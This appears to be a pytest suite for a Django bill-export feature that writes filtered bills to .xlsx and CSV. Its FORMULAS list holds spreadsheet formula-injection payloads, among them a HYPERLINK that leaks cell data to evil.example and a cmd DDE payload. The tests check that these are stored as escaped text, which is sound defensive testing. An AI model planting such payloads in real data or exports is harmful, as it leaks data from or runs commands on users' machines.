"""Export Data: the bills the Bills page's filter selects, as an .xlsx and a CSV."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import os
import re
import tempfile
import zoneinfo
from decimal import Decimal

import pytest
from django.http import QueryDict
from django.test import RequestFactory
from django.utils import timezone
from openpyxl import load_workbook

from bills import excel, views
from bills.filters import bill_filter
from bills.models import Application, AuditEvent, Bill
from bills.services import LineItem, bill_clear, credit_note_issue
from bills.tests.fixtures import make_organization, make_user

HEADERS = [
    "Bill Number",
    "Billing Cycle",
    "Product",
    "Organization",
    "WhatsApp Business Account",
    "AppKey",
    "Application ID",
    "Application Name",
    "Service Usage",
    "Usage Unit",
    "Consumption Amount",
    "Currency",
    "Payment Status",
    "Overdraft Amount",
    "Credited Amount",
    "Bill Date",
]


def download(client, query: str = "", file_format: str = "xlsx"):
    response = client.get(f"/bills/export.{file_format}?{query}")
    assert response.status_code == 200, response.headers.get("Location")
    return response


def sheet(client, query: str = ""):
    workbook = load_workbook(io.BytesIO(download(client, query).getvalue()))
    assert workbook.sheetnames == ["Bills"]
    return workbook["Bills"]


def bill_rows(ws) -> list[tuple]:
    """The data rows: everything between the header and the blank line before the totals."""
    rows = []
    for row in ws.iter_rows(min_row=2, values_only=True):
        if not any(row):
            break
        rows.append(row)
    return rows


def totals_rows(ws) -> list[tuple]:
    return [row for row in ws.iter_rows(values_only=True) if row[0] == "Total"]


def list_numbers(organization, query: str) -> list[str]:
    """What the Bills page's FilterSet selects for this query string, in its order."""
    request = RequestFactory().get("/bills/", QueryDict(query))
    request.organization = organization
    filterset = bill_filter(request.GET, request)
    assert not filterset.is_bound or filterset.is_valid(), filterset.errors
    return [bill.number for bill in filterset.qs]


def line(quantity: int, unit_price: str, unit: str = "messages") -> list[LineItem]:
    return [LineItem("Usage", quantity, unit, Decimal(unit_price))]


@pytest.fixture
def several_bills(make_bill, application, whatsapp_application):
    """Seven bills over three cycles, four products, both statuses."""
    talk = "conversations"
    bills = [
        make_bill(application, "2026-08", "app_push"),
        make_bill(application, "2026-09", "app_push", overdraft="10.00"),
        make_bill(application, "2026-10", "app_push"),
        make_bill(application, "2026-10", "sms", lines=line(333, "0.0075")),
        make_bill(whatsapp_application, "2026-09", "whatsapp", lines=line(7, "0.0333", talk)),
        make_bill(
            whatsapp_application, "2026-10", "whatsapp", lines=line(1001, "0.0251", talk),
            overdraft="0.23",
        ),
        make_bill(whatsapp_application, "2026-08", "email", lines=line(12345, "0.00011", "emails")),
    ]  # fmt: skip
    bill_clear(bill=bills[0])
    bill_clear(bill=bills[4])
    return bills


def test_it_downloads_an_xlsx_named_after_the_organization_and_its_day(
    member_client, organization, bill
):
    organization.time_zone = "Pacific/Kiritimati"  # UTC+14: often a day ahead of UTC
    organization.save()

    response = download(member_client)

    today = timezone.localdate(timezone=zoneinfo.ZoneInfo("Pacific/Kiritimati"))
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        f'attachment; filename="bills-acme-{today:%Y%m%d}.xlsx"'
    )
    assert "no-store" in response["Cache-Control"]


def test_it_writes_every_column_of_a_known_bill(member_client, make_bill, whatsapp_application):
    bill = make_bill(
        whatsapp_application,
        "2026-10",
        "whatsapp",
        lines=[
            LineItem("Marketing conversations", 1200, "conversations", Decimal("0.0250")),
            LineItem("Utility conversations", 34, "conversations", Decimal("0.0125")),
        ],
        overdraft="12.34",
    )

    ws = sheet(member_client)

    assert [cell.value for cell in ws[1]] == HEADERS
    row = ws[2]
    assert [cell.value for cell in row] == [
        bill.number,
        dt.datetime(2026, 10, 1),
        "WhatsApp Business",
        "Acme Messaging",
        "104857600123456",
        "acmekey0002",
        "100002",
        "Acme Support",
        1234,
        "conversations",
        30.43,  # 1200 x 0.025 + 34 x 0.0125 = 30.425, rounded half up
        "USD",
        "Pending",
        12.34,
        0,
        dt.datetime(2026, 11, 3),
    ]
    # Identifiers stay text (no lost leading zeros, no 1.04858E+14); amounts and usage
    # are numbers; the dates are real dates.
    assert [cell.data_type for cell in row] == list("sdssssssnsnssnnd")
    formats = {HEADERS[i]: cell.number_format for i, cell in enumerate(row)}
    assert formats["Billing Cycle"] == "yyyy-mm"
    assert formats["Bill Date"] == "yyyy-mm-dd"
    assert formats["Service Usage"] == "#,##0"
    assert formats["Consumption Amount"] == formats["Overdraft Amount"] == "#,##0.00"
    assert formats["Credited Amount"] == "#,##0.00"


def test_a_currency_without_minor_units_has_no_decimals(client, make_bill, products):
    yen = make_organization("kaisha", name="Kaisha KK", currency="JPY", country="JP")
    app = Application.objects.create(
        organization=yen, name="Kaisha App", app_key="kaishakey1", app_id="1"
    )
    make_bill(app, lines=[LineItem("Push", 100_001, "messages", Decimal("0.015"))])
    client.force_login(make_user("taro", yen))

    ws = sheet(client)

    assert ws["K2"].value == 1500  # 1500.015 rounded to whole yen
    assert ws["K2"].number_format == ws["N2"].number_format == "#,##0"
    assert totals_rows(ws) == [("Total", *[None] * 9, 1500, "JPY", None, 0, 0, None)]


def shown(cell) -> str:
    """Roughly what Excel shows in the cell, for its width."""
    if isinstance(cell.value, dt.datetime):
        return cell.number_format
    if isinstance(cell.value, int | float):
        return f"{cell.value:,.2f}"
    return str(cell.value or "")


def test_the_header_is_bold_frozen_filtered_and_the_columns_fit(member_client, several_bills):
    ws = sheet(member_client)

    assert all(cell.font.b and cell.font.name == "Calibri" for cell in ws[1])
    # Nothing sits flush against a right-aligned number: dates centred, units indented.
    assert ws["B2"].alignment.horizontal == ws["P2"].alignment.horizontal == "center"
    assert ws["J2"].alignment.indent == 1
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:P{len(several_bills) + 1}"
    for letter, header in zip("ABCDEFGHIJKLMNOP", HEADERS, strict=True):
        longest = max(len(shown(cell)) for cell in ws[letter][1 : len(several_bills) + 1])
        width = ws.column_dimensions[letter].width
        assert max(len(header), longest) < width <= excel.MAX_WIDTH, letter


def test_the_workbook_names_the_organization_and_the_filter(member_client, several_bills, products):
    query = f"status=pending&product={products['whatsapp'].pk}&cycle_from=2026-09"
    response = download(member_client, query)

    properties = load_workbook(io.BytesIO(response.getvalue())).properties
    assert properties.title == "Bills of Acme Messaging"
    assert properties.subject == (
        "Filter: Product: WhatsApp Business; From: 2026-09; Status: Pending"
    )
    assert "1 bill of Acme Messaging" in properties.description


LIST_QUERIES = [
    "",
    "status=pending",
    "status=cleared",
    "product={sms}&product={whatsapp}",
    "cycle=2026-10",
    "cycle_from=2026-09&cycle_to=2026-10",
    "q=support",
    "q=acmekey0001&status=pending",
    "sort=amount",
    "sort=-overdraft",
    "page=2",
]


def test_it_exports_exactly_the_bills_the_list_selects_in_its_order(
    member_client, organization, several_bills, products
):
    for query in LIST_QUERIES:
        query = query.format(sms=products["sms"].pk, whatsapp=products["whatsapp"].pk)

        numbers = [row[0] for row in bill_rows(sheet(member_client, query))]

        assert numbers == list_numbers(organization, query), query
        assert numbers, query  # every query above selects something
        # ...which is the count the Bills page shows for the same query string.
        listing = member_client.get(f"/bills/?{query}")
        assert listing.context["summary"].count == len(numbers), query


def test_the_totals_row_sums_to_the_cent(member_client, several_bills):
    ws = sheet(member_client)

    (total,) = totals_rows(ws)
    consumption = sum(bill.consumption_amount for bill in several_bills)
    overdraft = sum(bill.overdraft_amount for bill in several_bills)
    assert Decimal(str(total[10])) == consumption == Decimal("479.22")
    assert Decimal(str(total[13])) == overdraft == Decimal("10.23")
    assert total[11] == "USD"
    # The totals sit after a blank line, outside the auto-filter's range.
    assert ws.max_row == len(several_bills) + 3


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "  =1+1",
    "#N/A",
    # Lookalikes: full-width, and ASCII behind a BOM or a no-break space.
    '＝HYPERLINK("http://evil.example/","Invoice")',
    "＠SUM(1,1)",
    "\ufeff=1+1",
    "\u00a0+1+1",
]


def test_a_formula_typed_into_an_application_name_stays_text(member_client, make_bill, application):
    make_bill(application)
    for name in FORMULAS:
        application.name = name
        application.save()

        cell = sheet(member_client)["H2"]
        assert cell.data_type == "s", name
        assert cell.value == "'" + name

        lines = download(member_client, file_format="csv").getvalue().decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(lines)))[1][7] == "'" + name
        assert f"\"'{name[:3]}" in lines  # quoted, apostrophe first


def test_control_characters_are_stripped_not_crashed_on(member_client, make_bill, application):
    application.name = "Acme\x01\x07 Shop\x1b\tWest\x0b"
    application.save()
    make_bill(application)

    assert sheet(member_client)["H2"].value == "Acme Shop\tWest"
    csv_text = download(member_client, file_format="csv").getvalue().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(csv_text)))[1][7] == "Acme Shop\tWest"


def messages_and_field_errors(page: str) -> tuple[list[str], list[str]]:
    """The page's flash messages, and the errors its filter form shows by the fields."""
    flashed = re.findall(r'<li class="message message-error">(.*?)</li>', page, re.S)
    field_errors = re.findall(r'<ul class="errorlist"[^>]*>\s*<li>(.*?)</li>', page, re.S)
    return [html.unescape(text) for text in flashed], [html.unescape(t) for t in field_errors]


def test_an_invalid_filter_exports_nothing_and_the_list_says_why(member_client, several_bills):
    invalid = {
        "cycle=2024-13": "Month: “2024-13” is not a month",
        "cycle_from=2026-10&cycle_to=2026-08": "To: ",
        "status=paid": "Status: “paid” is not a status",
        "q=" + "x" * 10_000: "Search: Search for at most 100 characters",
    }
    for query, message in invalid.items():
        for file_format in ("xlsx", "csv"):
            response = member_client.get(f"/bills/export.{file_format}?{query}")

            assert response.status_code == 302, query
            assert response["Location"] == f"/bills/?{QueryDict(query).urlencode()}"
            page = member_client.get(response["Location"]).content.decode()
            (flashed,), field_errors = messages_and_field_errors(page)
            assert flashed.startswith(f"Nothing was exported. {message}"), flashed
            # The same words the Bills page shows next to the field.
            assert field_errors, query
            assert all(error in flashed for error in field_errors), (flashed, field_errors)
            assert "Export Data" not in page  # nothing to export until it is fixed


def test_another_organizations_ids_in_the_filter_export_nothing_of_theirs(
    member_client, several_bills, other_application, make_bill, products
):
    theirs = make_bill(other_application, "2026-10", "web_push")

    # Their application, or a product only they use: the filter's error, no file.
    for query, message in (
        (f"application={other_application.pk}", "Application: That is not one of your"),
        (f"product={products['web_push'].pk}", "Product: "),
    ):
        response = member_client.get(f"/bills/export.xlsx?{query}")
        assert response.status_code == 302
        page = member_client.get(response["Location"]).content.decode()
        (flashed,), _ = messages_and_field_errors(page)
        assert flashed.startswith(f"Nothing was exported. {message}"), flashed

    # A search for their names matches none of our bills.
    assert bill_rows(sheet(member_client, "q=Globex")) == []
    everything = sheet(member_client)
    assert theirs.number not in [row[0] for row in bill_rows(everything)]
    assert len(bill_rows(everything)) == len(several_bills)


def test_an_empty_result_is_a_workbook_with_just_the_header(member_client, several_bills):
    ws = sheet(member_client, "cycle=2020-01")

    assert list(ws.iter_rows(values_only=True)) == [tuple(HEADERS)]


def test_an_organization_without_bills_exports_the_header(member_client):
    assert list(sheet(member_client).iter_rows(values_only=True)) == [tuple(HEADERS)]
    csv_text = download(member_client, file_format="csv").getvalue().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(csv_text))) == [HEADERS]


def test_the_csv_twin_holds_the_same_rows_with_a_bom(member_client, several_bills):
    response = download(member_client, "sort=-amount", file_format="csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    body = response.getvalue()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    xlsx = bill_rows(sheet(member_client, "sort=-amount"))
    assert [row[0] for row in rows[1:]] == [row[0] for row in xlsx]
    whatsapp = next(row for row in rows if row[2] == "WhatsApp Business" and row[8] == "1001")
    assert whatsapp[1:] == [
        "2026-10",
        "WhatsApp Business",
        "Acme Messaging",
        "104857600123456",
        "acmekey0002",
        "100002",
        "Acme Support",
        "1001",
        "conversations",
        "25.13",
        "USD",
        "Pending",
        "0.23",
        "0.00",
        "2026-11-03",
    ]
    # Text is quoted (OWASP), numbers are not, so Excel reads them as numbers.
    assert ',1001,"conversations",25.13,"USD","Pending",0.23,0.00,"2026-11-03"' in body.decode()


def test_an_export_too_big_for_one_sheet_is_refused(member_client, several_bills, monkeypatch):
    monkeypatch.setattr(excel, "MAX_XLSX_BILLS", len(several_bills) - 1)

    response = member_client.get("/bills/export.xlsx?status=")
    assert response.status_code == 302
    page = member_client.get(response["Location"]).content.decode()
    assert "This filter selects 7 bills; an Excel sheet holds at most 6 bills." in page
    assert "download the CSV" in page
    # The CSV has no such limit.
    csv_text = download(member_client, file_format="csv").getvalue().decode("utf-8-sig")
    assert len(csv_text.splitlines()) == len(several_bills) + 1


def a_row(**changes) -> tuple:
    """One row as the view reads it from the database, in excel.COLUMNS order."""
    values = {
        "Bill Number": "BILL-202610-000001",
        "Billing Cycle": dt.date(2026, 10, 1),
        "Product": "SMS",
        "Organization": "Acme",
        "WhatsApp Business Account": "",
        "AppKey": "acmekey0001",
        "Application ID": "100001",
        "Application Name": "Acme Shop",
        "Service Usage": 1,
        "Usage Unit": "messages",
        "Consumption Amount": Decimal("1.00"),
        "Currency": "USD",
        "Payment Status": "Pending",
        "Overdraft Amount": Decimal("0.00"),
        "Credited Amount": Decimal("0.00"),
        "Bill Date": dt.date(2026, 11, 3),
    }
    values.update((key.replace("_", " "), value) for key, value in changes.items())
    return tuple(values[header] for header in HEADERS)


@pytest.fixture
def temp_dir(tmp_path, monkeypatch):
    """The directory where openpyxl's write-only sheet keeps its temporary file."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


# bills.excel._discard removes that file through openpyxl's private writer (no public
# way exists): if an upgrade renames it, these tests say so.
LEFT_BEHIND = "openpyxl's temporary file was left behind: see bills.excel._discard"


def test_the_writer_refuses_rows_beyond_its_limit_and_leaves_no_file(temp_dir):
    with pytest.raises(excel.TooManyRows):
        excel.write_bills_xlsx([a_row()] * 3, io.BytesIO(), organization="Acme", max_rows=2)

    assert list(temp_dir.iterdir()) == [], LEFT_BEHIND


def test_a_failing_export_leaves_no_temporary_file(temp_dir):
    def rows():
        # Past the rows read ahead for the column widths, so some are written.
        yield from [a_row()] * (excel.WIDTH_SAMPLE_ROWS + 1)
        assert list(temp_dir.iterdir()), "openpyxl no longer writes its rows to a temp file"
        raise ConnectionError("the database went away")

    with pytest.raises(ConnectionError):
        excel.write_bills_xlsx(rows(), io.BytesIO(), organization="Acme")

    assert list(temp_dir.iterdir()) == [], LEFT_BEHIND


def test_a_finished_export_leaves_no_temporary_file(temp_dir):
    excel.write_bills_xlsx([a_row()] * 3, io.BytesIO(), organization="Acme")

    assert list(temp_dir.iterdir()) == []


def test_openpyxl_still_calls_the_sheets_fast_path(monkeypatch):
    # bills.excel._BillsSheet overrides openpyxl's private _values_to_row (the public
    # create_sheet() is slower by more than the house's 10%, bench/bench_export.py). If an
    # upgrade stops calling it, the export still works but slower: this says so.
    calls = []
    fast_path = excel._BillsSheet._values_to_row

    def spy(self, values, row_idx):
        calls.append(row_idx)
        return fast_path(self, values, row_idx)

    monkeypatch.setattr(excel._BillsSheet, "_values_to_row", spy)
    excel.write_bills_xlsx([a_row()] * 3, io.BytesIO(), organization="Acme")

    # The header, three bills, a blank line, one totals row.
    assert calls == [1, 2, 3, 4, 5, 6], (
        "openpyxl no longer calls WriteOnlyWorksheet._values_to_row: bills.excel._BillsSheet "
        "is dead code; measure the public create_sheet() with bench/bench_export.py"
    )


def test_the_file_is_streamed_from_a_temporary_file_that_has_no_name(member, organization, bill):
    # Called directly: the test client wraps the stream and hides the file.
    request = RequestFactory().get("/bills/export.xlsx")
    request.user, request.organization = member, organization
    response = views.bill_export_xlsx(request)
    output = response.file_to_stream

    # Unlinked from the start: nothing stays on disk, even if the client goes away.
    assert os.fstat(output.fileno()).st_nlink == 0
    assert int(response["Content-Length"]) == os.fstat(output.fileno()).st_size
    next(iter(response.streaming_content))
    response.close()  # what the WSGI server does when the client disconnects
    assert output.closed


def test_it_streams_values_without_building_bills(
    member_client, several_bills, monkeypatch, django_assert_max_num_queries
):
    def no_instances(*args, **kwargs):
        raise AssertionError("the export built a Bill instance")

    monkeypatch.setattr(Bill, "from_db", no_instances)

    with django_assert_max_num_queries(8):
        rows = bill_rows(sheet(member_client))
    assert len(rows) == len(several_bills)


def test_aware_datetimes_are_written_in_the_organizations_time_zone():
    tokyo = zoneinfo.ZoneInfo("Asia/Tokyo")
    issued = dt.datetime(2026, 10, 31, 20, 30, tzinfo=dt.UTC)  # 1 November in Tokyo
    row = a_row(Bill_Date=issued)
    output = io.BytesIO()

    excel.write_bills_xlsx([row], output, organization="Acme", time_zone=tokyo)

    assert load_workbook(output)["Bills"]["P2"].value == dt.datetime(2026, 11, 1, 5, 30)


def test_safe_text_neutralises_formulas_and_drops_illegal_characters():
    assert excel.safe_text("Acme Shop") == "Acme Shop"
    assert excel.safe_text("=1+1") == "'=1+1"
    assert excel.safe_text("\x01=1+1") == "'=1+1"
    assert excel.safe_text("a-b=c") == "a-b=c"
    assert excel.safe_text("#DIV/0!") == "'#DIV/0!"
    assert excel.safe_text("\ufffeA\x0cB\x00") == "AB"


def test_the_bills_page_offers_the_export_with_its_query_string(member_client, bill):
    page = member_client.get("/bills/?status=pending&page=1").content.decode()

    assert '<a class="button button-primary" href="/bills/export.xlsx?status=pending"' in page
    assert 'href="/bills/export.csv?status=pending"' in page


def test_the_bills_page_hides_the_export_while_its_filter_is_invalid(member_client, bill):
    page = member_client.get("/bills/?cycle=2024-13").content.decode()

    assert "/bills/export.xlsx" not in page


def test_every_export_is_in_the_audit_trail(member_client, member, several_bills, products):
    query = f"status=pending&product={products['app_push'].pk}"
    download(member_client, query)
    download(member_client, "", file_format="csv")

    csv_event, xlsx_event = AuditEvent.objects.filter(action=AuditEvent.Action.BILLS_EXPORT)
    assert xlsx_event.actor == member
    assert xlsx_event.organization == several_bills[0].organization
    assert xlsx_event.details == {
        "format": "xlsx",
        "filters": {"status": "pending", "product": str(products["app_push"].pk)},
        "rows": 2,
        "consumption": {"USD": "300.00"},
        "overdraft": {"USD": "10.00"},
        "credited": {"USD": "0.00"},
    }
    assert csv_event.details["format"] == "csv"
    assert csv_event.details["rows"] == len(several_bills)
    # Refused exports are not exports.
    member_client.get("/bills/export.xlsx?cycle=2024-13")
    assert AuditEvent.objects.filter(action=AuditEvent.Action.BILLS_EXPORT).count() == 2


def test_a_user_without_an_organization_gets_a_404(client, bill):
    client.force_login(make_user("nobody"))

    assert client.get("/bills/export.xlsx").status_code == 404
    assert client.get("/bills/export.csv").status_code == 404


def test_an_anonymous_visitor_is_sent_to_log_in(client, bill):
    response = client.get("/bills/export.xlsx")

    assert response.status_code == 302
    assert response["Location"].startswith("/login/")


def test_credit_notes_show_in_the_credited_amount_column_and_its_totals(
    member_client, make_bill, application, whatsapp_application, admin_user
):
    credited = make_bill(application, overdraft="100.00")  # 150.00 of push notifications
    uncredited = make_bill(whatsapp_application, "2026-10", "whatsapp", lines=line(7, "1.00"))
    twice = make_bill(application, "2026-09")
    credit_note_issue(bill=credited, amount=Decimal("5.25"), reason="Outage", issued_by=admin_user)
    credit_note_issue(bill=twice, amount=Decimal("0.10"), reason="Rounding", issued_by=admin_user)
    credit_note_issue(bill=twice, amount=Decimal("0.01"), reason="Again", issued_by=admin_user)

    ws = sheet(member_client, "sort=number")
    csv_text = download(member_client, "sort=number", file_format="csv").getvalue()

    column = HEADERS.index("Credited Amount")
    assert HEADERS[column - 1] == "Overdraft Amount"
    by_number = {row[0]: row[column] for row in bill_rows(ws)}
    assert by_number == {credited.number: 5.25, twice.number: 0.11, uncredited.number: 0}
    (total,) = totals_rows(ws)
    assert total[column] == 5.36
    rows = list(csv.reader(io.StringIO(csv_text.decode("utf-8-sig"))))
    assert rows[0][column] == "Credited Amount"
    assert {row[0]: row[column] for row in rows[1:]}[credited.number] == "5.25"
    event = AuditEvent.objects.filter(action=AuditEvent.Action.BILLS_EXPORT).latest("pk")
    assert event.details["credited"] == {"USD": "5.36"}
